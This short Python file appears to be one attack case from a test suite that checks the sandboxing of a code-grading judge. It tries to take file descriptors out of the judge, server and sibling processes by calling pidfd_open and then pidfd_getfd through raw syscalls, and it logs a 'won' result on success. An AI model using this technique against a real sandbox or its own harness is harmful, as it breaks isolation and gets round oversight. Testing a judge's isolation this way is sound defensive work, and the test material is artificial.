"""Takes descriptors out of the judge with pidfd_getfd.

family: signals
answers: right
verdict: all=full
bare: fork victory (root)
"""

for pid in (target.judge, *target.servers, *target.siblings):
    pidfd = kernel(434, 434, pid, 0)
    if pidfd >= 0 and kernel(438, 438, pidfd, 1, 0) >= 0:
        won(f"took a descriptor of {pid}")
